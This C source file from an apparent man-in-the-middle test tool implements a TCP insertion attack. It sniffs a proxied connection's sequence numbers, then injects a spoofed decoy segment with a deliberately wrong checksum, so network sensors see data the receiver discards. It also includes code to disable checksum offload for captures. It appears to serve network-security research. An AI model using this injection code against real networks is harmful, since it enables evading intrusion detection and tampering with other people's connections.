/*
 * mitm_wire.c - the man in the middle's raw frames. An insertion attack
 * (Ptacek & Newsham, 1998) needs a segment that a sensor on the wire sees
 * but the receiver drops: the proxy learns, from a packet socket on the
 * client-facing interface, where its own TCP connection to the client
 * stands (the sequence number the client acknowledges, the MAC addresses),
 * then writes a decoy frame at exactly that sequence number with a TCP
 * checksum made wrong on purpose. Also turns transmit checksum offload off
 * on an interface (`mitm csum-off IFACE...`), so that a capture on the
 * router holds the checksums the receiver checks.
 */
#include "mitm.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/ethtool.h>
#include <linux/if_packet.h>
#include <linux/sockios.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

struct wire_tap {
	int fd;
	int ifindex;
	struct sockaddr_in client, server; /* the proxied connection as the client sees it */
	bool seen;			   /* a client segment of it was read */
	uint8_t client_mac[6], our_mac[6];
	uint32_t ack;	  /* the client's latest ACK: our next sequence number */
	uint32_t seq_end; /* the end of the client's latest data: our ACK */
	uint16_t ip_id;
};

static uint16_t rd16(const uint8_t *b)
{
	return (uint16_t)(b[0] << 8 | b[1]);
}

static uint32_t rd32(const uint8_t *b)
{
	return (uint32_t)b[0] << 24 | (uint32_t)b[1] << 16 | (uint32_t)b[2] << 8 | b[3];
}

static void wr16(uint8_t *b, uint16_t v)
{
	b[0] = (uint8_t)(v >> 8);
	b[1] = (uint8_t)v;
}

static void wr32(uint8_t *b, uint32_t v)
{
	wr16(b, (uint16_t)(v >> 16));
	wr16(b + 2, (uint16_t)v);
}

static uint32_t sum16(const uint8_t *b, size_t n, uint32_t s)
{
	for (; n > 1; b += 2, n -= 2)
		s += rd16(b);
	if (n)
		s += (uint32_t)b[0] << 8;
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

struct wire_tap *mitm_wire_open(const char *ifname, int client_fd, const struct sockaddr_in *dst)
{
	struct wire_tap *t = calloc(1, sizeof(*t));
	struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	socklen_t len = sizeof(t->client);

	if (t == NULL)
		mitm_fatal("out of memory");
	t->ifindex = (int)if_nametoindex(ifname);
	if (t->ifindex == 0)
		mitm_fatal("no interface %s", ifname);
	if (getpeername(client_fd, (struct sockaddr *)&t->client, &len) < 0)
		mitm_fatal("getpeername: %s", strerror(errno));
	t->server = *dst;
	t->fd = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK, htons(ETH_P_IP));
	if (t->fd < 0)
		mitm_fatal("packet socket: %s", strerror(errno));
	sll.sll_ifindex = t->ifindex;
	if (bind(t->fd, (struct sockaddr *)&sll, sizeof(sll)) < 0)
		mitm_fatal("bind to %s: %s", ifname, strerror(errno));
	t->ip_id = (uint16_t)getpid();
	return t;
}

/* Takes in one frame: notes it when it is the client's segment of our connection. */
static void wire_frame(struct wire_tap *t, const uint8_t *f, size_t n)
{
	const uint8_t *ip = f + ETH_HLEN, *tcp;
	size_t ihl, thl, iplen;

	if (n < ETH_HLEN + 20 || rd16(f + 12) != ETHERTYPE_IP || (ip[0] >> 4) != 4 || ip[9] != 6)
		return;
	ihl = (size_t)(ip[0] & 15) * 4;
	iplen = rd16(ip + 2);
	if (ihl < 20 || iplen > n - ETH_HLEN || iplen < ihl + 20)
		return;
	tcp = ip + ihl;
	if (memcmp(ip + 12, &t->client.sin_addr, 4) != 0 ||
	    memcmp(ip + 16, &t->server.sin_addr, 4) != 0 ||
	    rd16(tcp) != ntohs(t->client.sin_port) || rd16(tcp + 2) != ntohs(t->server.sin_port))
		return;
	thl = (size_t)(tcp[12] >> 4) * 4;
	if (thl < 20 || ihl + thl > iplen || !(tcp[13] & 0x10))
		return;
	memcpy(t->client_mac, f + 6, 6);
	memcpy(t->our_mac, f, 6);
	t->ack = rd32(tcp + 8);
	t->seq_end = rd32(tcp + 4) + (uint32_t)(iplen - ihl - thl);
	t->seen = true;
}

/* Reads every frame queued on the tap. */
static void wire_drain(struct wire_tap *t)
{
	uint8_t f[65536];

	for (;;) {
		struct sockaddr_ll from;
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(t->fd, f, sizeof(f), 0, (struct sockaddr *)&from, &fl);

		if (n < 0) {
			if (errno == EINTR)
				continue;
			return;
		}
		if (from.sll_pkttype == PACKET_OUTGOING)
			continue;
		wire_frame(t, f, (size_t)n);
	}
}

bool mitm_wire_decoy(struct wire_tap *t, const void *payload, size_t len)
{
	uint8_t f[ETH_HLEN + 40 + 4096];
	uint8_t *ip = f + ETH_HLEN, *tcp = ip + 20, pseudo[12];
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	uint32_t s;

	/* The client's last segment (its EHLO) is on the tap by the time we read it. */
	for (int i = 0; i < 20 && !t->seen; i++) {
		struct pollfd p = {.fd = t->fd, .events = POLLIN};

		wire_drain(t);
		if (!t->seen)
			poll(&p, 1, 50);
	}
	wire_drain(t);
	if (!t->seen || len > 4096) {
		mitm_log("decoy: the client's segments were not seen on the wire");
		return false;
	}
	memcpy(f, t->client_mac, 6);
	memcpy(f + 6, t->our_mac, 6);
	wr16(f + 12, ETHERTYPE_IP);
	memset(ip, 0, 40);
	ip[0] = 0x45;
	wr16(ip + 2, (uint16_t)(40 + len));
	wr16(ip + 4, t->ip_id++);
	wr16(ip + 6, 0x4000);
	ip[8] = 64;
	ip[9] = 6;
	memcpy(ip + 12, &t->server.sin_addr, 4);
	memcpy(ip + 16, &t->client.sin_addr, 4);
	wr16(ip + 10, fold(sum16(ip, 20, 0)));
	wr16(tcp, ntohs(t->server.sin_port));
	wr16(tcp + 2, ntohs(t->client.sin_port));
	wr32(tcp + 4, t->ack);
	wr32(tcp + 8, t->seq_end);
	tcp[12] = 5 << 4;
	tcp[13] = 0x18; /* PSH, ACK */
	wr16(tcp + 14, 502);
	memcpy(tcp + 20, payload, len);
	memcpy(pseudo, ip + 12, 8);
	pseudo[8] = 0;
	pseudo[9] = 6;
	wr16(pseudo + 10, (uint16_t)(20 + len));
	s = sum16(pseudo, sizeof(pseudo), 0);
	s = sum16(tcp, 20 + len, s);
	/* The right checksum, then made wrong: the receiver's kernel drops it. */
	wr16(tcp + 16, (uint16_t)(fold(s) ^ 0x5a5a));
	to.sll_ifindex = t->ifindex;
	to.sll_halen = 6;
	memcpy(to.sll_addr, t->client_mac, 6);
	if (sendto(t->fd, f, ETH_HLEN + 40 + len, 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
		mitm_log("decoy: sendto: %s", strerror(errno));
		return false;
	}
	mitm_log("decoy of %zu bytes at seq %u with a wrong TCP checksum", len, t->ack);
	return true;
}

int mitm_wire_csum_off(int n, char **ifnames)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0)
		mitm_fatal("socket: %s", strerror(errno));
	for (int i = 0; i < n; i++) {
		struct ethtool_value ev = {.cmd = ETHTOOL_STXCSUM, .data = 0};
		struct ifreq ifr;

		memset(&ifr, 0, sizeof(ifr));
		if (strlen(ifnames[i]) >= sizeof(ifr.ifr_name))
			mitm_fatal("interface name too long: %s", ifnames[i]);
		strcpy(ifr.ifr_name, ifnames[i]);
		ifr.ifr_data = (void *)&ev;
		if (ioctl(fd, SIOCETHTOOL, &ifr) < 0)
			mitm_fatal("%s: transmit checksum offload not turned off: %s", ifnames[i],
				   strerror(errno));
		ev = (struct ethtool_value){.cmd = ETHTOOL_GTXCSUM};
		if (ioctl(fd, SIOCETHTOOL, &ifr) < 0 || ev.data != 0)
			mitm_fatal("%s: transmit checksum offload still on", ifnames[i]);
		mitm_log("%s: transmit checksums computed in software", ifnames[i]);
	}
	close(fd);
	return 0;
}
